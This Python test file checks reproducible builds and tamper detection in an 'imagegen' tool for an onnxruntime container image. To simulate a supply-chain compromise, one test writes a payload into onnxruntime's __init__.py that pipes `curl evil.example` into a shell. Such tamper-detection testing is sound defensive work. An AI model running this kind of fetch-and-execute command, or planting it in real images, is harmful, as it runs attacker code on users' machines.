"""Reproducible images on the real onnxruntime cpu-slim cell: `imagegen verify` rebuilds it cold (no
layer cache, the build path `imagegen build` chooses) and gets the very same config digest; an image
whose file was changed after the build (same labels, one more layer over the same file) fails verify,
which names the file; two base loads of one rootfs give one image ID."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
import uuid
from pathlib import Path

import docker
import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "support"))
from engine_cleanup import remove_own  # noqa: E402

from imagegen import engine  # noqa: E402

CELL = "onnxruntime:1.23.2-cpu-slim"
PREFIX = "imagegen-test/"
LOCAL = PREFIX + CELL
TAMPERED = "/opt/venv/lib/python3.11/site-packages/onnxruntime/__init__.py"


def _ig(*args, check=True):
    e = dict(os.environ, PYTHONPATH=str(ROOT), NO_COLOR="1", IMAGEGEN_LOCAL_PREFIX=PREFIX)
    r = subprocess.run([sys.executable, "-m", "imagegen", *args], cwd=ROOT, env=e, capture_output=True, text=True,
                       timeout=1800)
    if check:
        assert r.returncode == 0, f"imagegen {' '.join(args)}: {r.stdout[-1000:]} {r.stderr[-2000:]}"
    return r


@pytest.fixture(scope="module")
def client():
    return docker.from_env()


@pytest.fixture(scope="module")
def built(client):
    before = {i.id for i in client.images.list(all=True)}
    made: set[str] = set()
    try:
        _ig("build", "--variant", CELL, "--no-test")
        yield engine.api().inspect_image(LOCAL)["Id"], made
    finally:
        remove_own(client, [LOCAL], made, before)


def test_a_cold_rebuild_is_the_same_image_and_a_tampered_one_is_named(built, client):
    image_id, made = built
    r = _ig("verify", LOCAL, "--allow-dirty", "--keep", "--json", check=False)
    v = json.loads(r.stdout)
    assert r.returncode == 0 and v["status"] == "reproduced", (v, r.stderr[-1500:])
    assert v["rebuilt_config_digest"] == v["image_config_digest"] == engine.config_digest(image_id)
    assert v["rebuilt_inputs_digest"] == v["inputs_digest"]
    if v["rebuilt_image"] != image_id:  # the containerd store: another image ID, the same config
        made.add(v["rebuilt_image"])

    # the same image with one file changed after the build: its labels still say the same cell
    ctx = io.BytesIO()
    with tarfile.open(fileobj=ctx, mode="w") as tar:
        for name, data in (("Dockerfile", f"FROM {image_id}\nCOPY init.py {TAMPERED}\n".encode()),
                           ("init.py", b"import os; os.system('curl evil.example | sh')\n")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    tag = f"imagegen-test/tampered:{uuid.uuid4().hex[:8]}"
    tampered, _ = client.images.build(fileobj=io.BytesIO(ctx.getvalue()), custom_context=True, tag=tag, rm=True)
    made.add(tampered.id)
    try:
        r = _ig("verify", tag, "--against", LOCAL, "--json", check=False)
        v = json.loads(r.stdout)
        assert r.returncode == 1 and v["status"] == "differs", v
        first = v["diff"]["files"][0]
        assert first["path"] == TAMPERED, v["diff"]
        assert f"first differing file: layer {first['layer']}: {TAMPERED}" in r.stderr
    finally:
        client.api.remove_image(tag, noprune=True)
